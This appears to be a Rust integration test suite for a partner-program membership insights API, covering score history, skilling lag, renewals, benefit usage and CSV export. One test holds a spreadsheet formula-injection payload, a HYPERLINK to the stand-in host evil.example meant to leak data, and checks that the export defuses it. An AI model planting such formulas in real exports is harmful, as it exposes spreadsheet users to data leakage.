//! Insights (the Insights workspace's membership view): capability score history at month
//! ends, skilling counted and pending across the lag, renewal dates, benefit usage, and the
//! CSV export with its quoting and formula defusing. Sandbox clocks reach the boundaries.

use crate::dual_test;
use crate::harness::{Reply, TestApp, program_definition};
use chrono::{DateTime, Datelike, Duration, Months, TimeZone, Utc};
use serde_json::{Value, json};
use uuid::Uuid;

fn at(value: &Value) -> DateTime<Utc> {
    value
        .as_str()
        .and_then(|text| DateTime::parse_from_rfc3339(text).ok())
        .map(|t| t.with_timezone(&Utc))
        .unwrap_or_else(|| panic!("not an instant: {value}"))
}

fn rfc3339(instant: DateTime<Utc>) -> String {
    instant.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true)
}

async fn insights(app: &TestApp, token: &str) -> Value {
    let reply = app.get("/v1/insights/membership", Some(token)).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    reply.json()
}

async fn export(app: &TestApp, token: &str) -> Reply {
    let reply = app.get("/v1/insights/export?format=csv", Some(token)).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    reply
}

/// A small RFC 4180 reader: quoted fields with doubled quotes, CRLF after every record.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                c => field.push(c),
            }
            continue;
        }
        match c {
            '"' => {
                assert!(
                    field.is_empty(),
                    "a quote inside an unquoted field: {field}"
                );
                quoted = true;
            }
            ',' => record.push(std::mem::take(&mut field)),
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            '\n' => panic!("a bare LF ends a record"),
            c => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "the last record lacks its CRLF"
    );
    records
}

/// The area's history as `(period, as_of, performance, total)`.
fn history(view: &Value, area: &str) -> Vec<(String, DateTime<Utc>, u64, u64)> {
    view["capability_scores"]
        .as_array()
        .expect("scores")
        .iter()
        .find(|a| a["area"] == area)
        .unwrap_or_else(|| panic!("no {area} in {view}"))["history"]
        .as_array()
        .expect("history")
        .iter()
        .map(|p| {
            (
                p["period"].as_str().expect("period").to_owned(),
                at(&p["as_of"]),
                p["performance"].as_u64().expect("points"),
                p["total"].as_u64().expect("total"),
            )
        })
        .collect()
}

async fn revenue(app: &TestApp, token: &str, customer: Uuid, occurred_at: DateTime<Utc>) {
    let reply = app
        .post_json(
            "/v1/sandbox/performance-records",
            token,
            &json!({"area": "security", "customer_tenant_id": customer, "kind": "revenue",
                    "monthly_revenue": {"amount_minor": 100_000, "currency": "USD"},
                    "occurred_at": rfc3339(occurred_at)}),
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.text);
}

async fn link(app: &TestApp, token: &str, customer: Uuid) {
    let reply = app
        .post_json(
            "/v1/partner-links",
            token,
            &json!({"kind": "pal", "customer_tenant_id": customer}),
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.text);
}

fn benefit_usage<'a>(view: &'a Value, kind: &str) -> &'a Value {
    view["benefit_usage"]
        .as_array()
        .expect("usage")
        .iter()
        .find(|u| u["kind"] == kind)
        .unwrap_or_else(|| panic!("no {kind} usage"))
}

dual_test! {
    async fn score_history_counts_a_past_record_from_the_month_it_is_dated_in(app) {
        let (_, owner, _) = app.verified_sandbox().await;
        let now = app.sandbox_now(&owner).await;
        let this_month = Utc.with_ymd_and_hms(now.year(), now.month(), 1, 0, 0, 0).single().expect("month");
        let last_month = this_month - Months::new(1);
        let two_ago = this_month - Months::new(2);
        // One customer's revenue dated on last month's first instant, another's on the last
        // microsecond of the month three months back.
        let (first, second) = (Uuid::now_v7(), Uuid::now_v7());
        link(&app, &owner, first).await;
        link(&app, &owner, second).await;
        revenue(&app, &owner, first, last_month).await;
        revenue(&app, &owner, second, two_ago - Duration::microseconds(1)).await;

        let view = insights(&app, &owner).await;
        assert_eq!(at(&view["as_of"]), now);
        let points = history(&view, "security");
        assert_eq!(points.len(), 13);
        let label = |month: DateTime<Utc>| format!("{:04}-{:02}", month.year(), month.month());
        // The twelve month-ends before now, oldest first, each its month's last microsecond.
        for (i, point) in points[..12].iter().enumerate() {
            let next_month = this_month - Months::new(11 - u32::try_from(i).expect("index"));
            assert_eq!(point.1, next_month - Duration::microseconds(1), "{point:?}");
            assert_eq!(point.0, label(point.1), "{point:?}");
        }
        let performance: Vec<u64> = points.iter().map(|p| p.2).collect();
        // Each record counts from the end of the month it is dated in, not the month before.
        assert_eq!(&performance[8..], &[0, 10, 10, 20, 20], "{points:?}");
        assert!(performance[..8].iter().all(|p| *p == 0), "{points:?}");
        assert_eq!(points[12].0, "now");
        assert_eq!(points[12].1, now);
        // The now point is the live score.
        let scores = app.get("/v1/solutions-partner/scores", Some(&owner)).await.json();
        let live = scores["items"].as_array().expect("items").iter().find(|s| s["area"] == "security").expect("security").clone();
        assert_eq!(live["total"].as_u64(), Some(points[12].3));
        // Every area is listed.
        assert_eq!(view["capability_scores"].as_array().expect("areas").len(), 6);
    }

    async fn skilling_is_pending_until_the_lag_ends_and_counted_from_then(app) {
        let (_, owner, _) = app.verified_sandbox().await;
        let t0 = app.sandbox_now(&owner).await;
        let view = insights(&app, &owner).await;
        assert_eq!(view["skilling"], json!({"counted": 0, "pending": 0, "next_counts_from": null}));
        let linked = app.post_json("/v1/me/learning-profile", &owner, &json!({"learn_id": "learn-jane"})).await;
        assert_eq!(linked.status, 201, "{}", linked.text);
        for (credential, completed) in [("security_operations_analyst_associate", t0), ("azure_administrator_associate", t0 - Duration::days(30))] {
            app.complete_certification(&owner, "learn-jane", credential, completed).await;
        }
        // Both count from the link + 10 days.
        let view = insights(&app, &owner).await;
        assert_eq!(view["skilling"]["counted"], 0);
        assert_eq!(view["skilling"]["pending"], 2);
        assert_eq!(at(&view["skilling"]["next_counts_from"]), t0 + Duration::days(10));

        app.advance(&owner, 9, 86_399).await;
        let view = insights(&app, &owner).await;
        assert_eq!((view["skilling"]["counted"].as_u64(), view["skilling"]["pending"].as_u64()), (Some(0), Some(2)));
        app.advance(&owner, 0, 1).await;
        let view = insights(&app, &owner).await;
        assert_eq!(view["skilling"], json!({"counted": 2, "pending": 0, "next_counts_from": null}));
        assert_eq!(at(&view["as_of"]), t0 + Duration::days(10));
    }

    async fn renewals_and_benefit_usage_of_a_bought_membership_and_its_csv(app) {
        let (directory, owner, _) = app.verified_sandbox().await;
        let bought_at = app.sandbox_now(&owner).await;
        app.bought(&owner, "probe_paid").await;
        let (sam_id, _) = app.add_user(directory, &owner, "sam.lee@contoso.com", &["report_viewer"]).await;
        let me = app.get("/v1/me", Some(&owner)).await.json();
        let owner_id = me["user_id"].as_str().expect("user id").to_owned();
        let benefits = app.get("/v1/benefits", Some(&owner)).await.json();
        let id_of = |kind: &str| benefits["items"].as_array().expect("items").iter()
            .find(|b| b["kind"] == kind).and_then(|b| b["id"].as_str()).expect("benefit").to_owned();
        let (credit, software) = (id_of("azure_credit"), id_of("software"));

        let view = insights(&app, &owner).await;
        let credit_usage = benefit_usage(&view, "azure_credit");
        assert_eq!((credit_usage["granted"].as_u64(), credit_usage["available"].as_u64(), credit_usage["activated"].as_u64()), (Some(1), Some(1), Some(0)));
        // An activation, a reassignment to Sam and a key reveal.
        for assignee in [&owner_id, &sam_id] {
            let reply = app.post_keyed(&format!("/v1/benefits/{credit}/activate"), &owner, &json!({"assignee_user_id": assignee})).await;
            assert_eq!(reply.status, 200, "{}", reply.text);
        }
        let revealed = app.send(app.request(reqwest::Method::POST, &format!("/v1/benefits/{software}/reveal-key"))
            .bearer_auth(&owner).header("idempotency-key", Uuid::now_v7().to_string())).await;
        assert_eq!(revealed.status, 200, "{}", revealed.text);

        let view = insights(&app, &owner).await;
        assert_eq!(benefit_usage(&view, "azure_credit").clone(), json!({"kind": "azure_credit", "granted": 1, "available": 0, "activated": 1, "ended": 0,
            "keys_revealed": 0, "reassignments_used": 1, "reassignments_max": 5}));
        assert_eq!(benefit_usage(&view, "software").clone(), json!({"kind": "software", "granted": 1, "available": 1, "activated": 0, "ended": 0,
            "keys_revealed": 1, "reassignments_used": null, "reassignments_max": null}));
        assert_eq!(benefit_usage(&view, "marketing")["granted"], 1);
        assert_eq!(benefit_usage(&view, "logo_builder")["granted"], 0);
        assert_eq!(view["benefit_usage"].as_array().expect("kinds").len(), 7);

        // The bought membership: anniversary a term after purchase, then the 30-day window.
        let memberships = view["memberships"].as_array().expect("memberships");
        assert_eq!(memberships.len(), 2, "{memberships:?}");
        assert_eq!(memberships[0]["program_id"], "ai_cloud_partner_program");
        assert_eq!(memberships[0]["anniversary_at"], Value::Null);
        let paid = &memberships[1];
        assert_eq!(paid["program_id"], "probe_paid");
        assert_eq!(paid["program_name"], "Probe program");
        assert_eq!(paid["status"], "active");
        assert_eq!(at(&paid["activated_at"]), bought_at);
        assert_eq!(at(&paid["anniversary_at"]), bought_at + Duration::days(365));
        assert_eq!(at(&paid["renewal_window_starts_at"]), bought_at + Duration::days(365));
        assert_eq!(at(&paid["renewal_window_ends_at"]), bought_at + Duration::days(395));
        assert_eq!(at(&paid["expires_at"]), bought_at + Duration::days(395));
        // At the anniversary it is due for renewal; the benefits continue.
        app.advance(&owner, 365, 0).await;
        let due = insights(&app, &owner).await;
        assert_eq!(due["memberships"][1]["status"], "renewal_due");
        assert_eq!(benefit_usage(&due, "azure_credit")["activated"], 1);

        // The export holds the same facts, one per row.
        let file = export(&app, &owner).await;
        assert_eq!(file.header("content-type"), Some("text/csv; charset=utf-8"));
        let disposition = file.header("content-disposition").expect("disposition");
        let date = at(&due["as_of"]).format("%Y-%m-%d").to_string();
        assert_eq!(disposition, format!("attachment; filename=\"membership-insights-{date}.csv\""));
        let records = parse_csv(&file.text);
        assert_eq!(records[0], ["section", "subject", "subject_name", "period", "as_of", "metric", "value"]);
        assert!(records.iter().all(|r| r.len() == 7), "{records:?}");
        let value = |section: &str, subject: &str, period: &str, metric: &str| -> String {
            let found: Vec<&Vec<String>> = records.iter()
                .filter(|r| r[0] == section && r[1] == subject && r[3] == period && r[5] == metric).collect();
            assert_eq!(found.len(), 1, "{section} {subject} {period} {metric}: {found:?}");
            found[0][6].clone()
        };
        let paid_id = due["memberships"][1]["membership_id"].as_str().expect("id");
        assert_eq!(value("membership", paid_id, "now", "status"), "renewal_due");
        assert_eq!(value("membership", paid_id, "now", "program_id"), "probe_paid");
        assert_eq!(value("membership", paid_id, "now", "renewal_window_ends_at"), due["memberships"][1]["renewal_window_ends_at"].as_str().expect("end"));
        assert_eq!(value("membership", paid_id, "now", "renewable"), "true");
        let base_id = due["memberships"][0]["membership_id"].as_str().expect("id");
        assert_eq!(value("membership", base_id, "now", "anniversary_at"), "");
        assert_eq!(value("benefit_usage", "azure_credit", "now", "reassignments_used"), "1");
        assert_eq!(value("benefit_usage", "azure_credit", "now", "reassignments_max"), "5");
        assert_eq!(value("benefit_usage", "software", "now", "keys_revealed"), "1");
        assert_eq!(value("benefit_usage", "software", "now", "reassignments_max"), "");
        assert_eq!(value("skilling", "", "now", "counted"), "0");
        assert_eq!(value("skilling", "", "now", "next_counts_from"), "");
        for point in due["capability_scores"][0]["history"].as_array().expect("history") {
            let program = due["capability_scores"][0]["program_id"].as_str().expect("program");
            let period = point["period"].as_str().expect("period");
            assert_eq!(value("capability_score", program, period, "total"), point["total"].to_string());
            assert_eq!(value("capability_score", program, period, "qualified"), point["qualified"].to_string());
        }
        // Header + 6 areas × 13 points × 5 metrics + 3 skilling + 2 memberships × 8 + 7 kinds × 7.
        assert_eq!(records.len(), 1 + 6 * 13 * 5 + 3 + 2 * 8 + 7 * 7);
    }

    async fn a_hostile_program_name_stays_text_in_the_export(app) {
        let (_, owner, _) = app.verified_sandbox().await;
        let hostile = "=HYPERLINK(\"http://evil.example/?leak\",\"Click, please\")";
        let mut definition = program_definition("self_service");
        definition["name"] = json!(hostile);
        assert_eq!(app.put_program("hostile_program", &definition).await.status, 201);
        let joined = app.post_json("/v1/memberships", &owner, &json!({"program_id": "hostile_program"})).await;
        assert_eq!(joined.status, 201, "{}", joined.text);
        let membership_id = joined.json()["id"].as_str().expect("id").to_owned();

        let view = insights(&app, &owner).await;
        assert_eq!(view["memberships"][1]["program_name"], hostile, "JSON carries the name as is");
        let file = export(&app, &owner).await;
        // Quoted (it holds quotes and a comma), its quotes doubled, and prefixed with '.
        assert!(file.text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click, please\"\")\","), "{}", file.text);
        let records = parse_csv(&file.text);
        let names: Vec<&str> = records.iter().filter(|r| r[0] == "membership" && r[1] == membership_id).map(|r| r[2].as_str()).collect();
        assert_eq!(names.len(), 8);
        assert!(names.iter().all(|name| *name == format!("'{hostile}")), "{names:?}");
        // No cell a spreadsheet would evaluate.
        for record in &records {
            for cell in record {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?} in {record:?}");
            }
        }
    }

    async fn an_export_format_other_than_csv_is_a_field_error(app) {
        let (_, owner, _) = app.verified_sandbox().await;
        for format in ["xlsx", "CSV", ""] {
            let reply = app.get(&format!("/v1/insights/export?format={format}"), Some(&owner)).await;
            reply.assert_problem(400, "validation_failed");
            assert_eq!(reply.field_errors(), vec![("format".to_owned(), "unsupported_format".to_owned())]);
        }
        app.get("/v1/insights/export?fromat=csv", Some(&owner)).await.assert_problem(400, "invalid_query_parameter");
        // Without a format the export is CSV.
        let reply = app.get("/v1/insights/export", Some(&owner)).await;
        assert_eq!(reply.status, 200, "{}", reply.text);
        assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
        // The workspace needs membership.read.
        let (directory, live_owner, _) = app.create_account().await;
        let (_, billing) = app.add_user(directory, &live_owner, "billing@contoso.com", &["billing_admin"]).await;
        for path in ["/v1/insights/membership", "/v1/insights/export?format=csv"] {
            app.get(path, Some(&billing)).await.assert_problem(403, "insufficient_role");
        }
    }
}
